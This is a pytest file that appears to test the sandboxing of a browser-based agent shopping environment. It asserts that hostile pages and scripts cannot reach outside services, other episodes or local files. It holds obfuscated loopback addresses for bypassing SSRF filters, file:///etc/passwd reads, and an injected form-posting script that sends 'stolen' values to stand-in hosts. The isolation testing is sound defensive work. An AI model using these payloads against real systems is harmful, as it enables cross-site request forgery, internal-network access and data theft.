"""An attacker with a real Chromium at a slot: hostile addresses, hostile pages, and a script without any policy."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest
from outside_service import CANARY, Outside

from shopworld.environments import BrowserEnvironment, BrowserProcess
from shopworld.environments.browser.context import BrowserContext
from shopworld.environments.browser.page import BrowserPage
from shopworld.episode import Episode
from shopworld.errors import BrowserMissing
from shopworld.mall import EpisodeSlot, MallServer

pytestmark = pytest.mark.browser

NewEpisode = Callable[[], Episode]


@pytest.fixture
def outside() -> Iterator[Outside]:
    """A service that must never be reached."""
    service = Outside()
    yield service
    service.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[BrowserProcess]:
    """A real Chromium; skipped where there is none."""
    try:
        process = BrowserProcess()
    except BrowserMissing as error:
        pytest.skip(str(error))
    with process:
        yield process


@pytest.fixture
def attacker(server: MallServer, new_episode: NewEpisode) -> EpisodeSlot:
    """A slot whose browser is hostile."""
    server.open(server.slots[0], new_episode())
    return server.slots[0]


@pytest.fixture
def victim(server: MallServer, new_episode: NewEpisode) -> Episode:
    """Another episode on the same server, with a secret in its cart."""
    episode = new_episode()
    server.open(server.slots[1], episode)
    return episode


@pytest.fixture
def page(browser: BrowserProcess, attacker: EpisodeSlot) -> Iterator[BrowserPage]:
    """A tab of the attacker."""
    context = BrowserContext(browser.connection(), attacker.proxy_address, (800, 600))
    yield context.open_tab()
    context.close()


def show(page: BrowserPage, address: str) -> str:
    """Opens an address and returns the text that is then on the page."""
    page.call("Page.navigate", url=address)
    page.settle()
    return str(run(page, "document.documentElement ? document.documentElement.innerText : ''"))


def run(page: BrowserPage, script: str) -> object:
    """Runs a script in the page and returns its value."""
    return page.call("Runtime.evaluate", expression=script, awaitPromise=True, returnByValue=True)["result"].get(
        "value"
    )


ATTACK = """(async () => {
  const form = new URLSearchParams({thing: 'stolen', solution: 'stolen'});
  const add = (place, kind, values) => place.appendChild(Object.assign(document.createElement(kind), values));
  const send = address => new Promise(done => {
    const frame = add(document.body, 'iframe', {name: 'f'});
    const sent = add(document.body, 'form', {method: 'post', action: address, target: 'f'});
    for (const [name, value] of form) add(sent, 'input', {name, value});
    frame.onload = () => setTimeout(done, 50);
    setTimeout(done, 1500);
    sent.submit();
  });
  const answered = thing => new Promise(done => { thing.onload = thing.onopen = thing.onerror = done });
  const patience = new Promise(done => setTimeout(() => done('no answer'), 2000));
  try { return String(await Promise.race([SCRIPT, patience])) } catch (problem) { return String(problem) }
})()"""


def attack(page: BrowserPage, script: str) -> str:
    """Runs a hostile expression with its tools at hand and returns what it says."""
    return str(run(page, ATTACK.replace("SCRIPT", script)))


def test_the_attacker_is_armed(page: BrowserPage, attacker: EpisodeSlot) -> None:
    page.call("Page.setBypassCSP", enabled=True)
    assert "apple" in show(page, "http://apple.example/")
    attack(page, "send('http://apple.example/cart/add')")
    attack(page, "fetch('http://apple.example/cart/add', {method: 'POST', mode: 'no-cors', body: form})")
    assert attacker.episode is not None
    assert len(attacker.episode.events) == 2


def test_the_attacker_has_a_browser_that_works(page: BrowserPage) -> None:
    assert "apple" in show(page, "http://apple.example/")
    assert run(
        page, "fetch('/cart/add', {method: 'POST', body: new URLSearchParams({thing: 'x'})}).then(r => r.url)"
    ) == ("http://apple.example/cart/")


@pytest.mark.parametrize(
    "address",
    [
        "http://127.0.0.1:{outside}/",
        "http://localhost:{outside}/",
        "http://2130706433:{outside}/",
        "http://0x7f.1:{outside}/",
        "http://[::1]:{outside}/",
        "http://[::ffff:7f00:1]:{outside}/",
        "http://0.0.0.0:{outside}/",
        "http://apple.example@127.0.0.1:{outside}/",
        "http://apple.example:{outside}/",
        "https://127.0.0.1:{outside}/",
        "https://apple.example/",
        "http://apple.{label}.localhost:{door}/cart/",
        "http://apple.{label}.localhost:{other}/cart/",
        "http://localhost:{door}/",
        "http://127.0.0.1:{door}/",
        "http://127.0.0.1:{other}/",
        "http://apple.example./cart/",
        "http://other.example/",
        "ftp://127.0.0.1:{outside}/",
        "ws://127.0.0.1:{outside}/",
    ],
)
def test_no_address_leads_out(
    server: MallServer, page: BrowserPage, victim: Episode, outside: Outside, address: str
) -> None:
    filled = address.format(outside=outside.port, label=victim.label, door=server.door_port, other=server.slots[1].port)
    text = show(page, filled)
    assert CANARY not in text
    assert "apple:" not in text
    assert outside.seen == []
    assert victim.events == []


def test_no_resource_of_a_hostile_page_is_fetched_from_outside(
    page: BrowserPage, victim: Episode, outside: Outside
) -> None:
    place = f"http://127.0.0.1:{outside.port}"
    html = f"""<img src="{place}/img"><iframe src="{place}/frame"></iframe><script src="{place}/script"></script>
      <link rel=stylesheet href="{place}/style"><link rel=preload as=image href="{place}/preload">
      <link rel=prefetch href="{place}/prefetch"><link rel=dns-prefetch href="{place}">
      <object data="{place}/object"></object><embed src="{place}/embed">
      <video src="{place}/video" poster="{place}/poster"></video>
      <svg><image href="{place}/svg"/></svg><iframe src="file:///etc/passwd"></iframe>
      <iframe src="http://apple.{victim.label}.localhost/cart/"></iframe>
      <style>@import url({place}/import); body {{ background: url({place}/background) }}</style>
      <img src="http://pear.example/cart/" onerror="fetch('{place}/handler')">
      <script>document.title = 'ran'; fetch('{place}/inline')</script><base href="{place}/"><img src="relative">
      <meta http-equiv=refresh content="0; url={place}/refresh">"""
    text = show(page, f"http://apple.example/embedding/?html={quote(html)}")
    assert CANARY not in text
    assert outside.seen == []
    assert victim.events == []
    assert run(page, "document.title") != "ran"


@pytest.mark.parametrize(
    "script",
    [
        "fetch('http://pear.example/cart/add', {method: 'POST', mode: 'no-cors', credentials: 'include', body: form})",
        "navigator.sendBeacon('http://pear.example/cart/add', form)",
        "send('http://pear.example/cart/add')",
        "send('http://pear.example:80/cart/add')",
        "send('http://apple.{label}.localhost:{door}/cart/add')",
        "send('http://127.0.0.1:{other}/cart/add')",
        "send('http://127.0.0.1:{outside}/')",
        "send('http://solution.example/')",
        "fetch('http://127.0.0.1:{outside}/').then(r => r.text())",
        "fetch('http://localhost:{outside}/', {mode: 'no-cors'})",
        "fetch('http://apple.{label}.localhost:{door}/cart/').then(r => r.text())",
        "fetch('https://127.0.0.1:{outside}/', {mode: 'no-cors'})",
        "answered(new WebSocket('ws://127.0.0.1:{outside}/'))",
        "answered(new EventSource('http://127.0.0.1:{outside}/'))",
        "answered(Object.assign(new Image(), {src: 'http://127.0.0.1:{outside}/'}))",
        "void window.open('http://127.0.0.1:{outside}/')",
        "void (location = 'file:///etc/passwd')",
        "void (location = 'view-source:http://127.0.0.1:{outside}/')",
        "void (location = 'http://127.0.0.1:{outside}/')",
    ],
)
def test_a_script_without_any_policy_changes_nothing_elsewhere(
    server: MallServer, page: BrowserPage, attacker: EpisodeSlot, victim: Episode, outside: Outside, script: str
) -> None:
    page.call("Page.setBypassCSP", enabled=True)
    show(page, "http://apple.example/")
    filled = (
        script.replace("{label}", victim.label)
        .replace("{door}", str(server.door_port))
        .replace("{other}", str(server.slots[1].port))
        .replace("{outside}", str(outside.port))
    )
    text = attack(page, filled)
    page.settle()
    shown = str(run(page, "document.documentElement.innerText"))
    for seen in (text, shown):
        assert CANARY not in seen
        assert "root:" not in seen
    assert outside.seen == []
    assert victim.events == []
    assert attacker.episode is not None
    assert attacker.episode.events == []
    assert attacker.episode.ending is None


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "view-source:http://apple.example/",
        "chrome://version",
        "data:text/html,hello",
        "javascript:alert(1)",
        "http://127.0.0.1:{outside}/",
    ],
)
def test_an_agent_cannot_go_elsewhere(
    browser: BrowserProcess, attacker: EpisodeSlot, outside: Outside, address: str
) -> None:
    assert attacker.episode is not None
    with BrowserEnvironment(browser) as environment:
        environment.open(attacker.episode, attacker.proxy_address, "http://apple.example/", "go")
        observation = environment.step(f"goto({address.format(outside=outside.port)!r})")
    assert observation.last_action_error
    assert observation.url == "http://apple.example/"
    assert outside.seen == []


def test_two_contexts_of_one_browser_see_their_own_episode(
    browser: BrowserProcess, server: MallServer, new_episode: NewEpisode
) -> None:
    contexts = []
    for slot in server.slots[:2]:
        server.open(slot, new_episode())
        context = BrowserContext(browser.connection(), slot.proxy_address, (800, 600))
        contexts.append(context)
        show(context.open_tab(), "http://apple.example/")
    for name, context in zip("ab", contexts, strict=True):
        run(context.page, f"fetch('/cart/add', {{method: 'POST', body: new URLSearchParams({{thing: {name!r}}})}})")
    texts = [show(context.page, "http://apple.example/cart/") for context in contexts]
    assert texts == ["apple: a", "apple: b"]
    for context in contexts:
        context.close()
